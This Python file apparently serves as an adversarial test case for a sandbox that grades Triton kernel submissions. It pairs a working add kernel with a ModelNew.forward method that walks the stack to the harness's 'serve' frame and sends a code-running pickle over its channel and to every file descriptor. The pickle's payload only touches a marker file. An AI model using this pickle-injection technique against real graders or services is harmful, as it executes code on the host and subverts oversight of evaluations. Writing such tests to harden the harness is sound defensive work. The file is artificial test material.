# problem: add
# permitted: runtime_error
# Sends pickles that run code where they are read: bare, in a frame of the protocol, and on every other descriptor.
import os
import pickle
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x + y, mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/warpsmith-attack-file",)


class ModelNew(nn.Module):
    def forward(self, x, y):
        payload = pickle.dumps(Bomb())
        frame = sys._getframe()
        while frame.f_code.co_name != "serve":
            frame = frame.f_back
        frame.f_locals["channel"].send(66, payload)
        for fd in range(64):
            try:
                os.write(fd, payload)
            except OSError:
                pass
        return add(x, y)
